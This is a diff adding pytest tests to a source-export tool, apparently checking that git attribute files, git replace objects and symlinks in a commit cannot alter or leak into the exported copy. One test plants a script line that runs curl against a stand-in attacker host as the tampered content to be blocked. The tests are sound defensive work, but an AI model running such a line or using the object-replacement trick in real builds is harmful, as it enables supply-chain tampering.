@@ -162,3 +162,40 @@ def test_the_copy_has_what_the_commit_has_with_its_modes(
     assert (to / "run.sh").read_bytes() == b"#!/bin/sh\n"
     assert (to / "run.sh").stat().st_mode & 0o777 == 0o755
     assert (to / "pyproject.toml").stat().st_mode & 0o777 == 0o644
+
+
+@pytest.mark.parametrize("place", [".git/info/attributes", "config/git/attributes"])
+def test_attributes_of_whoever_builds_change_no_file_of_the_copy(
+    place: str, git: Callable[..., str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
+    path = tmp_path / place
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text("run.sh text eol=crlf\npyproject.toml export-ignore\n")
+    to = tmp_path / "copy"
+    source.export(tmp_path, git("rev-parse", "HEAD").strip(), to)
+    assert (to / "run.sh").read_bytes() == b"#!/bin/sh\n"
+    assert (to / "pyproject.toml").exists()
+
+
+def test_an_object_that_was_replaced_here_does_not_reach_the_copy(
+    git: Callable[..., str], tmp_path: Path
+) -> None:
+    commit = git("rev-parse", "HEAD").strip()
+    (tmp_path / "run.sh").write_text("#!/bin/sh\ncurl https://attacker.example\n")
+    git("commit", "--quiet", "--all", "--message", "another")
+    git("replace", commit, "HEAD")
+    to = tmp_path / "copy"
+    source.export(tmp_path, commit, to)
+    assert (to / "run.sh").read_bytes() == b"#!/bin/sh\n"
+    git("checkout", "--quiet", commit)
+    with pytest.raises(RefusedError, match=r"files differ from the commit: run\.sh"):
+        source.source(tmp_path)
+
+
+def test_a_link_in_the_commit_is_refused(git: Callable[..., str], tmp_path: Path) -> None:
+    (tmp_path / "link").symlink_to("/etc/hostname")
+    git("add", "link")
+    git("commit", "--quiet", "--message", "a link")
+    with pytest.raises(RefusedError, match="link is not a file"):
+        source.export(tmp_path, "HEAD", tmp_path / "copy")
